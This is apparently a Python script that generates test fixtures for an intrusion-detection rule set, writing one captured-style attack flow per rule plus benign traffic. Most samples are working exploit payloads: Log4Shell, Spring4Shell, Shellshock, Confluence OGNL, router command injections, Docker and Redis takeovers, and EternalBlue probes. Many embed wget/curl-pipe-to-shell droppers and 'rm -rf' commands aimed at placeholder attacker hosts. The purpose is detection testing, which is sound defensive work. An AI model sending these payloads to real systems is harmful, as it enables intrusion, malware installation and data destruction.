#!/usr/bin/env python3
"""Writes the rule samples: tests/rules/samples/<rule-id>.bin (the client bytes
of one realistic attack flow for each default rule) and tests/rules/benign/*.bin
(ordinary traffic that must match no rule).

The payloads follow what internet sensors record from these campaigns (request
lines, header order, bodies and user agents of the bots and public exploits);
addresses are the documentation ranges (198.51.100.0/24 for the attackers'
servers, 203.0.113.10 for the sensor).  Binary protocols (SMB) are built field
by field below.  Run from anywhere: python3 tests/rules/mksamples.py"""
import os
import struct

HERE = os.path.dirname(os.path.abspath(__file__))
SENSOR = "203.0.113.10"


def http(method, uri, headers=(), body=b"", version="HTTP/1.1", host=SENSOR, length=True):
    """One HTTP/1.x request with CRLF line ends."""
    if isinstance(body, str):
        body = body.encode()
    lines = [f"{method} {uri} {version}"]
    if host is not None:
        lines.append(f"Host: {host}")
    lines += list(headers)
    if body and length:
        lines.append(f"Content-Length: {len(body)}")
    return ("\r\n".join(lines) + "\r\n\r\n").encode("latin-1") + body


UA_GO = "User-Agent: Go-http-client/1.1"
UA_PY = "User-Agent: python-requests/2.31.0"
UA_FF = "User-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:109.0) Gecko/20100101 Firefox/115.0"
UA_HELLO = "User-Agent: Hello, World"
ACCEPT = ["Accept: */*", "Accept-Encoding: gzip, deflate", "Connection: close"]
FORM = "Content-Type: application/x-www-form-urlencoded"

# ---- SMB ----


def nbss(msg):
    """NetBIOS session service header."""
    return struct.pack(">I", len(msg)) + msg


def smb1(cmd, words, data, tid=0, pid=0xfeff, uid=0, mid=0x40, flags=0x18, flags2=0xc007):
    hdr = b"\xffSMB" + bytes([cmd]) + struct.pack("<IBHH8sHHHHH", 0, flags, flags2, 0, b"\0" * 8, 0,
                                                  tid, pid, uid, mid)
    return nbss(hdr + bytes([len(words) // 2]) + words + struct.pack("<H", len(data)) + data)


def smb1_negotiate():
    dialects = [b"PC NETWORK PROGRAM 1.0", b"LANMAN1.0", b"Windows for Workgroups 3.1a",
                b"LM1.2X002", b"LANMAN2.1", b"NT LM 0.12"]
    return smb1(0x72, b"", b"".join(b"\x02" + d + b"\x00" for d in dialects), flags2=0xc853)


def smb1_session_setup_anon():
    # AndX none, max buffer 4356, max mpx 10, vc 0, key 0, empty passwords
    words = struct.pack("<BBHHHHIHHII", 0xff, 0, 0, 4356, 10, 0, 0, 0, 0, 0, 0x000000d4)
    data = b"\x00" + "Windows 2000 2195\0Windows 2000 5.0\0".encode()
    return smb1(0x73, words, data, flags2=0xc007)


def smb1_tree_connect(ip):
    words = struct.pack("<BBHHH", 0xff, 0, 0, 0, 1)
    path = f"\\\\{ip}\\IPC$".encode() + b"\x00"
    return smb1(0x75, words, b"\x00" + path + b"?????\x00", uid=0x0800)


def smb1_trans2_session_setup():
    """DoublePulsar ping: Trans2 SESSION_SETUP (0x000e), timeout carries the
    backdoor command."""
    words = struct.pack("<HHHHBBHIHHHHHBBH", 12, 0, 1, 0, 0, 0, 0, 0x00a4d9a6, 0, 12, 66, 0, 78,
                        1, 0, 0x000e)
    return smb1(0x32, words, b"\x00" + b"\x00" * 12, tid=0x0800, uid=0x0800, mid=0x41)


def smb1_peeknamedpipe():
    """The MS17-010 check: Transaction PeekNamedPipe (0x23) on FID 0."""
    words = struct.pack("<HHHHBBHIHHHHHBBHH", 0, 0, 0xffff, 0xffff, 0, 0, 0, 0, 0, 0, 0x4a, 0,
                        0x4a, 2, 0, 0x23, 0)
    return smb1(0x25, words, b"\\PIPE\\\x00", tid=0x0800, uid=0x0800, mid=0x40)


def smb2_negotiate_compression():
    """SMB 3.1.1 negotiate with preauth integrity and compression contexts, as
    sent by the public CVE-2020-0796 scanners."""
    dialects = [0x0202, 0x0210, 0x0222, 0x0224, 0x0300, 0x0302, 0x0310, 0x0311]
    hdr = b"\xfeSMB" + struct.pack("<HHIHHIIQIIQ16s", 64, 0, 0, 0, 31, 0, 0, 0, 0, 0, 0, b"\0" * 16)
    fixed_len = 36 + 2 * len(dialects)
    ctx_off = 64 + fixed_len
    pad = (8 - ctx_off % 8) % 8
    ctx_off += pad
    guid = bytes(range(16))
    body = struct.pack("<HHHHI16sIHH", 36, len(dialects), 1, 0, 0x7f, guid, ctx_off, 2, 0)
    body += b"".join(struct.pack("<H", d) for d in dialects) + b"\0" * pad
    salt = bytes((i * 37 + 11) & 0xff for i in range(32))
    pre = struct.pack("<HHI", 1, 38, 0) + struct.pack("<HHH", 1, 32, 1) + salt
    pre += b"\0" * ((8 - len(pre) % 8) % 8)
    comp = struct.pack("<HHI", 3, 10, 0) + struct.pack("<HHIH", 1, 0, 0, 1)
    return nbss(hdr + body + pre + comp)


# ---- the samples, one per rule id ----

YARN_BODY = ('{"application-id": "application_1527144634877_20465", "application-name": "dr.who", '
             '"am-container-spec": {"commands": {"command": "wget -q -O - http://198.51.100.7/yarn.sh '
             '| bash"}}, "application-type": "YARN"}')

SAMPLES = {
    "hadoop-yarn-new-application": http(
        "POST", "/ws/v1/cluster/apps/new-application",
        [UA_PY] + ACCEPT, b"", host=f"{SENSOR}:8088") .replace(b"\r\n\r\n", b"\r\nContent-Length: 0\r\n\r\n"),
    "hadoop-yarn-submit": http(
        "POST", "/ws/v1/cluster/apps", [UA_PY] + ACCEPT + ["Content-Type: application/json"],
        YARN_BODY, host=f"{SENSOR}:8088"),
    "log4shell-jndi": http(
        "GET", "/?x=${jndi:ldap://198.51.100.23:1389/Exploit}",
        ["User-Agent: ${jndi:ldap://198.51.100.23:1389/Exploit}",
         "X-Api-Version: ${jndi:ldap://198.51.100.23:1389/Exploit}",
         "Referer: ${jndi:ldap://198.51.100.23:1389/Exploit}"] + ACCEPT),
    "log4shell-obfuscated": http(
        "GET", "/", [
            "User-Agent: ${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://198.51.100.23:1389/Basic/Command/Base64/d2dldCBodHRwOi8vMTk4LjUxLjEwMC4yMy9sb2cuc2g=}",
            "X-Forwarded-For: ${${lower:j}${lower:n}${lower:d}i:${lower:r}mi://198.51.100.23:1099/a}",
        ] + ACCEPT),
    "log4shell-urlencoded": http(
        "GET", "/solr/admin/cores?action=%24%7Bjndi%3Aldap%3A%2F%2F198.51.100.23%3A1389%2Fsolr%7D",
        [UA_GO] + ACCEPT, host=f"{SENSOR}:8983"),
    "log4shell-urlencoded-nested": http(
        "GET", "/api?q=%24%7B%24%7Blower%3Aj%7D%24%7Blower%3An%7Ddi%3Aldap%3A%2F%2F198.51.100.23%2Fa%7D",
        [UA_GO] + ACCEPT),
    "thinkphp-invokefunction": http(
        "GET", "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=HelloThinkPHP21",
        ["User-Agent: Custom-AsyncHttpClient", "Connection: close", "Accept: */*"]),
    "thinkphp-request-input": http(
        "GET", "/index.php?s=index/think\\request/input?data[]=phpinfo()&filter=assert",
        [UA_FF] + ACCEPT),
    "thinkphp-construct": http(
        "POST", "/index.php?s=captcha", [UA_FF, FORM] + ACCEPT,
        "_method=__construct&filter[]=system&method=get&server[REQUEST_METHOD]=cd /tmp;wget http://198.51.100.4/tp.sh;sh tp.sh"),
    "gpon-diag-form": http(
        "POST", "/GponForm/diag_Form?images/",
        ["Connection: keep-alive", "Accept-Encoding: gzip, deflate", "Accept: */*", UA_HELLO],
        "XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=``;wget+http://198.51.100.3:8088/Mozi.m+-O+->/tmp/gpon80;sh+/tmp/gpon80&ipv=0",
        host="127.0.0.1:80"),
    "phpunit-eval-stdin": http(
        "POST", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
        ["User-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/81.0.4044.129 Safari/537.36",
         "Content-Type: text/plain"] + ACCEPT,
        '<?php echo md5("phpunit"); ?>'),
    "php-cgi-arg-injection": http(
        "POST", "/cgi-bin/php-cgi.exe?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input",
        ["User-Agent: curl/7.88.1", FORM] + ACCEPT,
        '<?php echo shell_exec("cd /tmp; wget http://198.51.100.12/w.sh; sh w.sh"); ?>'),
    "confluence-ognl-uri": http(
        "GET",
        "/%24%7B%28%23a%3D%40org.apache.commons.io.IOUtils%40toString%28%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29.getInputStream%28%29%2C%22utf-8%22%29%29.%28%40com.opensymphony.webwork.ServletActionContext%40getResponse%28%29.setHeader%28%22X-Cmd-Response%22%2C%23a%29%29%7D/",
        [UA_PY] + ACCEPT, host=f"{SENSOR}:8090"),
    "confluence-ognl-variables": http(
        "POST", "/pages/doenterpagevariables.action", [UA_PY, FORM] + ACCEPT,
        "queryString=aaaaaaaa%5cu0027%2b%7bClass.forName%28%5cu0027javax.script.ScriptEngineManager%5cu0027%29.newInstance%28%29.getEngineByName%28%5cu0027js%5cu0027%29.eval%28%5cu0027var+x%3dnew+java.lang.ProcessBuilder%28%29%3bx.command%28%5b%5cu0027sh%5cu0027%2c%5cu0027-c%5cu0027%2c%5cu0027id%5cu0027%5d%29%3bx.start%28%29%5cu0027%29%7d%2b%5cu0027",
        host=f"{SENSOR}:8090"),
    "spring4shell": http(
        "POST", "/", [UA_PY, FORM, "suffix: %>//", "c1: Runtime", "c2: <%", "DNT: 1"] + ACCEPT,
        "class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di%20if(%22j%22.equals(request.getParameter(%22pwd%22)))%7B%20java.io.InputStream%20in%20%3D%20%25%7Bc1%7Di.getRuntime().exec(request.getParameter(%22cmd%22)).getInputStream()%3B%20%7D%20%25%7Bsuffix%7Di"
        "&class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp"
        "&class.module.classLoader.resources.context.parent.pipeline.first.directory=webapps/ROOT"
        "&class.module.classLoader.resources.context.parent.pipeline.first.prefix=tomcatwar"
        "&class.module.classLoader.resources.context.parent.pipeline.first.fileDateFormat=",
        host=f"{SENSOR}:8080"),
    "shellshock": http(
        "GET", "/cgi-bin/status",
        ["User-Agent: () { :; }; echo; /bin/bash -c \"wget http://198.51.100.15/ss.sh -O /tmp/ss.sh; sh /tmp/ss.sh\"",
         "Referer: () { :; }; echo; /bin/bash -c \"id\""] + ACCEPT),
    "huawei-hg532-upgrade": http(
        "POST", "/ctrlt/DeviceUpgrade_1",
        ["Content-Length: 430", "Connection: keep-alive", "Accept: */*",
         'Authorization: Digest username="dslf-config", realm="HuaweiHomeGateway", nonce="88645cefb1f9ede0e336e3569d75ee30", uri="/ctrlt/DeviceUpgrade_1", response="3612f843a42db38f48f59d2a3597e19c", algorithm="MD5", qop="auth", nc=00000001, cnonce="248d1a2560100669"'],
        '<?xml version="1.0" ?><s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/" s:encodingStyle="http://schemas.xmlsoap.org/soap/encoding/"><s:Body><u:Upgrade xmlns:u="urn:schemas-upnp-org:service:WANPPPConnection:1"><NewStatusURL>$(/bin/busybox wget -g 198.51.100.9 -l /tmp/mips -r /mips; /tmp/mips huawei.rep)</NewStatusURL><NewDownloadURL>$(echo HUAWEIUPNP)</NewDownloadURL></u:Upgrade></s:Body></s:Envelope>',
        host=f"{SENSOR}:37215", length=False),
    "realtek-sdk-upnp": http(
        "POST", "/picsdesc.xml",
        ["Content-Length: 630", "Accept-Encoding: gzip, deflate",
         "SOAPAction: urn:schemas-upnp-org:service:WANIPConnection:1#AddPortMapping",
         "Accept: */*", UA_HELLO, "Connection: keep-alive"],
        '<?xml version="1.0" ?><s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/" s:encodingStyle="http://schemas.xmlsoap.org/soap/encoding/"><s:Body><u:AddPortMapping xmlns:u="urn:schemas-upnp-org:service:WANIPConnection:1"><NewRemoteHost></NewRemoteHost><NewExternalPort>47450</NewExternalPort><NewProtocol>TCP</NewProtocol><NewInternalPort>44382</NewInternalPort><NewInternalClient>`cd /var; rm -rf nig; wget http://198.51.100.3/nig; chmod 777 nig; ./nig realtek`</NewInternalClient><NewEnabled>1</NewEnabled><NewPortMappingDescription>syncthing</NewPortMappingDescription><NewLeaseDuration>0</NewLeaseDuration></u:AddPortMapping></s:Body></s:Envelope>',
        host=f"{SENSOR}:52869", length=False),
    "apache-path-traversal": http(
        "GET", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/.%2e/.%2e/.%2e/etc/passwd",
        ["User-Agent: Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/97.0.4692.71 Safari/537.36"] + ACCEPT),
    "apache-path-traversal-double": http(
        "POST", "/cgi-bin/.%%32%65/.%%32%65/.%%32%65/.%%32%65/.%%32%65/bin/sh",
        [UA_PY, FORM] + ACCEPT, "echo Content-Type: text/plain; echo; id"),
    # loaders
    "loader-wget-chmod":
        b"enable\r\nsystem\r\nshell\r\nsh\r\n"
        b"cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget http://198.51.100.9/bins.sh; "
        b"chmod 777 bins.sh; sh bins.sh; tftp 198.51.100.9 -c get tftp1.sh; chmod 777 tftp1.sh; "
        b"sh tftp1.sh; rm -rf bins.sh tftp1.sh; rm -rf *\r\n",
    "loader-tftp-get":
        b"sh\r\n/bin/busybox tftp -g -l .t -r mips 198.51.100.9; /bin/busybox chmod 777 .t; ./.t telnet.mips\r\n",
    "dropper-curl-sh": http(
        "GET", "/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(curl+-s+http://198.51.100.4/tplink.sh|sh)",
        [UA_GO] + ACCEPT),
    "dropper-wget-sh":
        b"*3\r\n$3\r\nset\r\n$6\r\nbackup\r\n$64\r\n\n\n*/2 * * * * wget -q -O- http://198.51.100.6/init.sh | sh\n\n\r\n",
    "mirai-busybox-applet":
        b"root\r\nxc3511\r\nenable\r\nsystem\r\nshell\r\nsh\r\n/bin/busybox ECCHI\r\n"
        b"/bin/busybox ps; /bin/busybox ECCHI\r\n/bin/busybox cat /proc/mounts; /bin/busybox ECCHI\r\n",
    "mozi-binary": http(
        "GET", "/shell?cd+/tmp;rm+-rf+*;wget+http://198.51.100.3:45678/Mozi.a;chmod+777+Mozi.a;/tmp/Mozi.a+jaws",
        ["User-Agent: Hello, world", "Accept: text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
         "Connection: keep-alive"], host=f"{SENSOR}:80", version="HTTP/1.1"),
    # services
    "docker-api-create": http(
        "POST", "/v1.24/containers/create",
        ["User-Agent: Docker-Client/19.03.12 (linux)", "Content-Type: application/json"],
        '{"Hostname":"","Domainname":"","User":"","AttachStdin":false,"AttachStdout":true,"AttachStderr":true,'
        '"Tty":false,"OpenStdin":false,"StdinOnce":false,"Env":null,'
        '"Cmd":["chroot","/mnt","/bin/sh","-c","curl -s http://198.51.100.8/d.sh | sh"],'
        '"Image":"alpine","Volumes":{},"WorkingDir":"","Entrypoint":null,"OnBuild":null,"Labels":{},'
        '"HostConfig":{"Binds":["/:/mnt"],"NetworkMode":"host","Privileged":true,"AutoRemove":true}}',
        host=f"{SENSOR}:2375"),
    "docker-api-host-mount": http(
        "POST", "/containers/create?name=cleanup",
        [UA_GO, "Content-Type: application/json"],
        '{"Image":"alpine:latest","Cmd":["/bin/sh","-c","echo \'* * * * * root curl -fsSL http://198.51.100.8/c.sh | sh\' >> /host/etc/crontab"],'
        '"HostConfig":{"Binds": ["/:/host:rw"],"Privileged":true}}',
        host=f"{SENSOR}:2375"),
    "docker-api-list": http(
        "GET", "/v1.41/containers/json?all=1", [UA_GO, "Accept-Encoding: gzip"], host=f"{SENSOR}:2375"),
    "k8s-api-probe": http(
        "GET", "/api/v1/pods", ["User-Agent: kubectl/v1.28.2 (linux/amd64) kubernetes/89a4ea3",
                                "Accept: application/json, */*"], host=f"{SENSOR}:6443"),
    "k8s-kubelet-probe": http(
        "GET", "/runningpods/", [UA_GO, "Accept-Encoding: gzip"], host=f"{SENSOR}:10250"),
    "elasticsearch-cat-indices": http(
        "GET", "/_cat/indices?v", [UA_GO, "Accept-Encoding: gzip"], host=f"{SENSOR}:9200"),
    "elasticsearch-search-script": http(
        "POST", "/_search?pretty", [UA_PY, "Content-Type: application/json"] + ACCEPT,
        '{"size":1, "script_fields": {"lupin":{"lang":"groovy","script": '
        '"java.lang.Math.class.forName(\\"java.lang.Runtime\\").getRuntime().exec(\\"wget http://198.51.100.5/es.sh -O /tmp/es.sh\\").getText()"}}}',
        host=f"{SENSOR}:9200"),
    "hadoop-yarn-probe": http(
        "GET", "/ws/v1/cluster/info", [UA_GO, "Accept-Encoding: gzip"], host=f"{SENSOR}:8088"),
    "redis-slaveof":
        b"*1\r\n$4\r\nINFO\r\n"
        b"*3\r\n$6\r\nCONFIG\r\n$3\r\nSET\r\n$3\r\ndir\r\n$4\r\n/tmp\r\n"
        b"*3\r\n$6\r\nCONFIG\r\n$3\r\nSET\r\n$10\r\ndbfilename\r\n$6\r\nexp.so\r\n"
        b"*3\r\n$7\r\nSLAVEOF\r\n$12\r\n198.51.100.6\r\n$4\r\n8886\r\n",
    "redis-replicaof":
        b"*3\r\n$9\r\nREPLICAOF\r\n$12\r\n198.51.100.6\r\n$5\r\n21000\r\n",
    "redis-config-dir":
        b"*1\r\n$8\r\nflushall\r\n"
        b"*3\r\n$3\r\nset\r\n$1\r\n1\r\n$62\r\n\n\n*/1 * * * * curl -fsSL http://198.51.100.6/cr.sh | sh\n\n\r\n"
        b"*4\r\n$6\r\nconfig\r\n$3\r\nset\r\n$3\r\ndir\r\n$16\r\n/var/spool/cron/\r\n"
        b"*4\r\n$6\r\nconfig\r\n$3\r\nset\r\n$10\r\ndbfilename\r\n$4\r\nroot\r\n"
        b"*1\r\n$4\r\nsave\r\n",
    "redis-config-dbfilename":
        b"config set dir /root/.ssh\r\nconfig set dbfilename authorized_keys\r\nsave\r\n",
    "redis-module-load":
        b"*3\r\n$6\r\nMODULE\r\n$4\r\nLOAD\r\n$11\r\n/tmp/exp.so\r\n"
        b"*3\r\n$11\r\nsystem.exec\r\n$2\r\nid\r\n",
    # vpn
    "citrix-vpns-traversal": http(
        "GET", "/vpn/../vpns/cfg/smb.conf", [UA_PY] + ACCEPT),
    "fortinet-fgt-lang": http(
        "GET", "/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession",
        [UA_FF] + ACCEPT, host=f"{SENSOR}:10443"),
    "pulse-secure-traversal": http(
        "GET", "/dana-na/../dana/html5acc/guacamole/../../../../../../etc/passwd?/dana/html5acc/guacamole/",
        [UA_PY] + ACCEPT),
    # smb
    "smb1-negotiate-legacy": smb1_negotiate(),
    "eternalblue-trans2-session-setup":
        smb1_negotiate() + smb1_session_setup_anon() + smb1_tree_connect(SENSOR) +
        smb1_trans2_session_setup(),
    "ms17-010-peeknamedpipe":
        smb1_negotiate() + smb1_session_setup_anon() + smb1_tree_connect(SENSOR) +
        smb1_peeknamedpipe(),
    "smbghost-compression": smb2_negotiate_compression(),
    # probes
    "dotenv-probe": http("GET", "/.env", [UA_FF] + ACCEPT),
    "git-config-probe": http("GET", "/.git/config", [UA_FF] + ACCEPT),
    "path-traversal-passwd": http(
        "GET", "/cgi-bin/viewer.cgi?file=..%2f..%2f..%2f..%2f..%2fetc%2fpasswd", [UA_PY] + ACCEPT),
    "webshell-md5-probe": http(
        "POST", "/wp-content/plugins/index.php", [UA_FF, FORM] + ACCEPT, "h=die(@md5(HelloWorld));"),
    "webshell-cmd-param": http(
        "GET", "/shell.php?cmd=cd+/tmp;wget+http://198.51.100.14/x86;chmod+777+x86;./x86", [UA_PY] + ACCEPT),
    "php-exec-call": http(
        "POST", "/index.php?-d+allow_url_include%3don+-d+auto_prepend_file%3dphp%3a//input",
        [UA_PY, FORM] + ACCEPT, '<?php exec("wget http://198.51.100.12/p.sh -O- | sh"); echo(md5("x")); ?>'),
    "cgi-bin-injection": http(
        "POST", "/cgi-bin/ViewLog.asp",
        ["User-Agent: python-requests/2.20.0", FORM] + ACCEPT,
        "remote_submit_Flag=1&remote_syslog_Flag=1&RemoteSyslogList=1&remote_host=%3bcd+/tmp;wget+http://198.51.100.2/arm7;chmod+777+arm7;./arm7+zyxel;%3b%23&remoteSubmit=Save"),
    "boaform-login": http(
        "POST", "/boaform/admin/formLogin", [UA_FF, FORM, "Origin: http://" + SENSOR,
                                              "Referer: http://" + SENSOR + "/admin/login.asp"] + ACCEPT,
        "username=admin&psd=Feefifofum"),
    "dlink-hnap": http(
        "POST", "/HNAP1/",
        ['Content-Type: text/xml; charset="utf-8"',
         "SOAPAction: http://purenetworks.com/HNAP1/`cd /tmp && rm -rf * && wget http://198.51.100.5/bins/mips && chmod 777 /tmp/mips && /tmp/mips`",
         "Accept-Encoding: gzip, deflate", "Accept: */*"],
        b"", version="HTTP/1.0").replace(b"\r\n\r\n", b"\r\nContent-Length: 640\r\n\r\n") + b"<?xml version=\"1.0\" encoding=\"utf-8\"?>",
    "mvpower-dvr-shell": http(
        "GET", "/shell?cd+/tmp;rm+-rf+*;wget+198.51.100.3/jaws;sh+/tmp/jaws", [UA_HELLO] + ACCEPT),
    "netgear-setup-syscmd": http(
        "GET", "/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://198.51.100.3:38383/Mozi.m+-O+/tmp/netgear;sh+netgear&curpath=/&currentsetting.htm=1",
        [], host=None, version="HTTP/1.0"),
    # tools
    "tool-zgrab": http("GET", "/", ["User-Agent: Mozilla/5.0 zgrab/0.x", "Accept: */*",
                                    "Accept-Encoding: gzip"]),
    "tool-masscan": http("GET", "/", ["User-Agent: masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
                                      "Accept: */*"], host="[1.2.3.4]", version="HTTP/1.0"),
    "tool-nmap-nse": http("GET", "/HNAP1", ["Connection: close",
                                            "User-Agent: Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)"]),
    "tool-nmap-nice-ports": b"GET /nice%20ports%2C/Tri%6Eity.txt%2ebak HTTP/1.0\r\n\r\n",
    "tool-sqlmap": http("GET", "/index.php?id=1%27%20AND%201%3D1--%20-",
                        ["Cache-Control: no-cache", "User-Agent: sqlmap/1.7.2#stable (https://sqlmap.org)",
                         "Accept: */*", "Accept-Encoding: gzip,deflate", "Connection: close"]),
    "tool-nikto": http("GET", "/admin.php", ["User-Agent: Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000412)",
                                             "Connection: Keep-Alive"]),
    "tool-censys": http("GET", "/", ["User-Agent: Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)",
                                     "Accept: */*", "Accept-Encoding: gzip"]),
}


def tls_client_hello(sni):
    """A TLS 1.3 ClientHello of the shape curl/OpenSSL send."""
    ciphers = [0x1302, 0x1303, 0x1301, 0xc02c, 0xc030, 0xc02b, 0xc02f, 0xcca9, 0xcca8, 0x009f, 0x009e]
    name = sni.encode()
    ext = b""
    sni_body = struct.pack(">HBH", len(name) + 3, 0, len(name)) + name
    ext += struct.pack(">HH", 0, len(sni_body)) + sni_body
    ext += struct.pack(">HHH", 0x000b, 2, 0x0100)[:4] + b"\x01\x00"
    groups = struct.pack(">HHHHH", 8, 0x001d, 0x0017, 0x001e, 0x0019)
    ext += struct.pack(">HH", 0x000a, len(groups)) + groups
    alpn = b"\x02h2\x08http/1.1"
    ext += struct.pack(">HHH", 0x0010, len(alpn) + 2, len(alpn)) + alpn
    sv = b"\x04\x03\x04\x03\x03"
    ext += struct.pack(">HH", 0x002b, len(sv)) + sv
    ks = struct.pack(">HH", 0x001d, 32) + bytes(range(32))
    ext += struct.pack(">HHH", 0x0033, len(ks) + 2, len(ks)) + ks
    body = b"\x03\x03" + bytes((i * 7) & 0xff for i in range(32)) + b"\x20" + bytes(range(32))
    body += struct.pack(">H", 2 * len(ciphers)) + b"".join(struct.pack(">H", c) for c in ciphers)
    body += b"\x01\x00" + struct.pack(">H", len(ext)) + ext
    hs = b"\x01" + struct.pack(">I", len(body))[1:] + body
    return b"\x16\x03\x01" + struct.pack(">H", len(hs)) + hs


BENIGN = {
    "curl-get-root": http("GET", "/", ["User-Agent: curl/7.88.1", "Accept: */*"]),
    "browser-get": http("GET", "/index.html", [
        UA_FF, "Accept: text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8",
        "Accept-Language: en-US,en;q=0.5", "Accept-Encoding: gzip, deflate, br", "Connection: keep-alive",
        "Upgrade-Insecure-Requests: 1"], host="www.example.com"),
    "robots-favicon": http("GET", "/robots.txt", [UA_FF, "Accept: */*"]) +
        http("GET", "/favicon.ico", [UA_FF, "Accept: image/avif,image/webp,*/*"]),
    "json-api-post": http("POST", "/api/v1/login", [UA_PY, "Content-Type: application/json"] + ACCEPT,
                          '{"username": "alice", "password": "correct horse battery staple"}'),
    "api-status": http("GET", "/api/v1/status", [UA_GO, "Accept: application/json"]),
    "form-post": http("POST", "/contact", [UA_FF, FORM] + ACCEPT,
                      "name=Bob&email=bob%40example.com&message=Hello+there%2C+nice+site%21"),
    "ssh-banner": b"SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u2\r\n",
    "ssh-libssh": b"SSH-2.0-libssh_0.9.6\r\n",
    "tls-client-hello": tls_client_hello("www.example.com"),
    "redis-ping": b"*1\r\n$4\r\nPING\r\n*1\r\n$4\r\nINFO\r\n",
    "rdp-cookie": b"\x03\x00\x00\x2b\x26\xe0\x00\x00\x00\x00\x00Cookie: mstshash=Administr\r\n\x01\x00\x08\x00\x03\x00\x00\x00",
    "smtp-like": b"EHLO client.example.com\r\nMAIL FROM:<a@example.com>\r\nRCPT TO:<b@example.com>\r\nQUIT\r\n",
}


def write(folder, items):
    path = os.path.join(HERE, folder)
    os.makedirs(path, exist_ok=True)
    for old in os.listdir(path):
        if old.endswith(".bin"):
            os.unlink(os.path.join(path, old))
    for name, data in items.items():
        with open(os.path.join(path, name + ".bin"), "wb") as f:
            f.write(data)


if __name__ == "__main__":
    write("samples", SAMPLES)
    write("benign", BENIGN)
    print(f"{len(SAMPLES)} samples, {len(BENIGN)} benign")
